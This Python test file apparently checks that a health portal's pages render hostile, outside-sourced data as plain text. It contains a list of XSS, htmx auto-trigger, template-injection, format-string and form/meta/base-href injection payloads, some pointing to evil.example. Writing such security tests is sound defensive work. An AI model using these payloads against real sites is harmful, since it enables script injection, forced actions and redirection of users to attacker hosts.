"""Attacks in every text that comes from outside: all pages show them as text, and links lead to the web only."""

from collections.abc import Iterator
from itertools import count

import pytest
from flask.testing import FlaskClient

from portal.domain.ids import HOME
from portal.domain.links import LinkState
from portal.domain.people import Address, HumanName, Person
from portal.domain.sections import Section
from portal.identity.comparison import Difference, Finding, Verdict
from portal.refresh.ingest import ingest
from portal.store.directory import organizations
from portal.store.links import links
from portal.store.provider import clients
from portal.store.provider.clients import OAuthClient
from portal.store.records import rows
from tests.factories.record import link, suggest
from tests.factories.sights import WHOLE
from tests.hostile.web.record import filled
from tests.hostile.web.stage import (
    Stage,
    add_consent,
    add_family,
    add_own,
    add_received,
    add_share,
    addresses,
    ask,
    build,
)
from tests.hostile.web.test_headers import Page, problems

SIGN = "qzattack"  # in every attack, so that an attribute or an element made of one is seen
ATTACKS = (
    f"<script>{SIGN}(1)</script>",
    f'"><img src=x onerror={SIGN}(1)>',
    f"' onmouseover='{SIGN}(1)' x='",
    f'<a hx-get="/sign-out?{SIGN}" hx-trigger="load">x</a>',
    f'<div data-hx-post="/links/x/unlink?{SIGN}" data-hx-trigger="load" hx-on:load="{SIGN}(1)">',
    f"<svg/onload={SIGN}(1)><use href='data:image/svg+xml,{SIGN}'/>",
    f"{{{{ 7919*7907 }}}}{{% for x in config %}}{SIGN}{{{{ x }}}}{{% endfor %}} ${{7919*7907}}",
    f"%(name)s %s %d {SIGN} %",
    f"</title></textarea></style><script>{SIGN}(1)</script>",
    f"javascript:{SIGN}(1)//https://",
    f"\u202e{SIGN}\u0000\u001b[31m\u2028]]>",
    f"<form action=//evil.example/{SIGN}><input name=csrf_token><button>x",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{SIGN}'>",
    f"<base href=//evil.example/{SIGN}>",
)
_TEXT = {"aria-label", "title", "value", "content", "placeholder", "alt"}
_next = count()


def _attack(kind: str = "") -> str:
    return f"{ATTACKS[next(_next) % len(ATTACKS)]} {kind}"


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """A person whose record, name, organizations and apps are made of attacks; every attack is in many fields."""
    stage = build(tmp_path_factory.mktemp("attacked"))
    here, world = stage.services, stage.world
    victim = world.patient(
        "vic",
        Person(
            names=(HumanName(family=_attack("family"), given=(_attack("given"),), use="official"),),
            birth_date="1980-01-01",
            sex="female",
            addresses=(Address(line=(_attack("line"),), city=_attack("city"), state="NJ", postal_code="08102"),),
            phones=(_attack("phone"),),
        ),
    )
    stage.victim = victim
    for round_ in range(len(ATTACKS)):
        ingest(here.db, person_id=victim.person_id, source=HOME, resources=filled(_attack, key=f"h{round_}"))
    for state in (LinkState.ACTIVE, LinkState.CONFIRM, LinkState.ERROR):
        made = link(
            here,
            victim,
            name=f"{state.value} {_attack('organization')}",
            state=state,
            resources=filled(_attack, key=state.value),
            portal_url=f"javascript:{SIGN}(1)",
            city=_attack("city"),
            phone=_attack("phone"),
            aliases=(_attack("alias"),),
        )
        stage.links[state], stage.organizations[state] = made.link_id, made.organization_id
    stage.organizations["suggested"] = suggest(here, victim, name=f"suggested {_attack('organization')}")
    differing = Finding(
        Verdict.NEAR, tuple(Difference(aspect=aspect, ours=_attack(), theirs=_attack()) for aspect in ("name", "sex"))
    )
    with here.db.transaction() as tx:
        confirm = stage.links[LinkState.CONFIRM]
        links.put(tx, link_id=confirm, finding=tx.seal(differing, row=f"link.finding:{confirm}"))
        links.put(tx, link_id=stage.links[LinkState.ERROR], reason=f"<b>{SIGN}"[:40])
        plain = organizations.by_id(tx, organization_id=stage.organizations["suggested"])
        assert plain
        stage.organizations["evil-portal"] = organizations.add(
            tx, name=f"Evil {_attack()}", fhir_base="https://evil.example/fhir", portal_url=f" javascript:{SIGN}(1)"
        ).id
    with here.db.reading() as tx:
        for section in Section:
            found = rows.page(tx, person_id=stage.person_id, sight=WHOLE, section=section, limit=50)
            stage.entries[section.value] = found.rows[0].primary_id
    add_share(stage, f"<b>{SIGN}"[:40])
    add_family(stage, f"<b>{SIGN}", helper="other-helper")
    add_own(stage, _attack("draft"))
    add_received(stage, _attack("from outside"))
    add_consent(stage)
    yield stage
    here.db.close()


@pytest.fixture(scope="module")
def patient(attacked: Stage) -> FlaskClient:
    return attacked.visitor(attacked.victim)


def _every_item(stage: Stage) -> Iterator[str]:
    with stage.services.db.reading() as tx:
        for section in Section:
            if section is Section.MESSAGES:
                continue
            for row in rows.page(tx, person_id=stage.person_id, sight=WHOLE, section=section, limit=40).rows:
                yield f"/health/{section.value}/{row.primary_id}"


@pytest.mark.parametrize("fragment", [False, True], ids=["page", "fragment"])
def test_attacks_are_text(attacked: Stage, patient: FlaskClient, fragment: bool) -> None:
    paths = {one.path for one in addresses(attacked) if one.method == "GET" and "person" not in one.about}
    paths |= {f"/links/search?q={name}" for name in ("active", "suggested", "evil", "<script>")}
    paths |= {
        "/help?q=%22%3E%3Cscript%3E",
        "/family",
        "/settings",
        f"/links/new/{attacked.organizations['evil-portal']}",
    }
    if not fragment:
        paths |= set(_every_item(attacked))
    seen = 0
    for path in sorted(paths):
        answer = ask(patient, "GET", path, fragment=fragment)
        assert answer.status_code in (200, 303), f"{path}: {answer.status}"
        if answer.mimetype != "text/html":
            assert answer.mimetype in (
                "application/pdf",
                "application/smart-health-card",
                "application/zip",
                "text/calendar",
                "text/csv",
                "text/plain",
            ), f"{path}: a browser would run {answer.mimetype}"
            continue
        html = answer.get_data(as_text=True)
        seen += SIGN in html
        _assert_harmless(html, path, fragment=fragment and "<html" not in html)
    assert seen > 20, "the attacks are not on the pages at all"


def _assert_harmless(html: str, path: str, *, fragment: bool) -> None:
    found = list(problems(html, fragment=fragment))
    assert not found, f"{path}: {found}"
    assert "62615533" not in html, f"{path}: a template was evaluated"
    for tag, attributes in Page(html).tags:
        assert SIGN not in tag, path
        for name, value in attributes.items():
            assert SIGN not in name, f"{path}: <{tag} {name}>"
            text_only = name in _TEXT or (name.startswith("data-") and not name.startswith("data-hx"))
            assert text_only or SIGN not in value or "/sign-in?" in value, f"{path}: <{tag} {name}={value!r}>"


def test_forms_that_came_back_and_flashed_messages(attacked: Stage, patient: FlaskClient) -> None:
    form = {"csrf_token": attacked.token(patient), "to": ATTACKS[0]}
    active, evil = attacked.links["active"], attacked.organizations["evil-portal"]
    answers = [
        *(patient.post(f"/links/{active}/{verb}", data=form, follow_redirects=True) for verb in ("hide", "update")),
        patient.post(f"/links/new/{evil}", data=form),
        patient.get(f"/links/callback?state={SIGN}<script>&error=<script>{SIGN}", follow_redirects=True),
        patient.get(f"/oauth/authorize?client_id=<script>{SIGN}&redirect_uri=javascript:{SIGN}"),
    ]
    stranger = attacked.app.test_client()
    page = stranger.get("/sign-in").get_data(as_text=True)
    token = page.split('name="csrf_token" type="hidden" value="')[1].split('"')[0]
    for attack in ATTACKS[:8]:
        fields = {"csrf_token": token, "username": attack, "password": "x", "next": attack}
        answers.append(stranger.post(f"/sign-in?next={SIGN}", data=fields))
    for answer in answers:
        _assert_harmless(answer.get_data(as_text=True), answer.request.path, fragment=False)


def test_an_app_that_asks_for_consent_is_text_as_well(attacked: Stage, patient: FlaskClient) -> None:
    with attacked.services.db.transaction() as tx:
        clients.add_client(
            tx,
            client=OAuthClient(
                client_id="evil-app",
                name=ATTACKS[0],
                auth_method="none",
                redirect_uris=("https://app.example/back",),
                scopes=("launch/patient", "patient/*.rs", "offline_access"),
                grant_types=("authorization_code", "refresh_token"),
                homepage=f"javascript:{SIGN}(1)",
            ),
        )
    answer = patient.get(
        "/oauth/authorize",
        query_string={
            "response_type": "code",
            "client_id": "evil-app",
            "redirect_uri": "https://app.example/back",
            "scope": "launch/patient patient/*.rs offline_access",
            "state": ATTACKS[1],
            "aud": "http://localhost:8000/fhir",
            "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
            "code_challenge_method": "S256",
        },
    )
    html = answer.get_data(as_text=True)
    assert answer.status_code == 200
    assert SIGN in html
    found = list(problems(html, fragment=False))
    assert not found
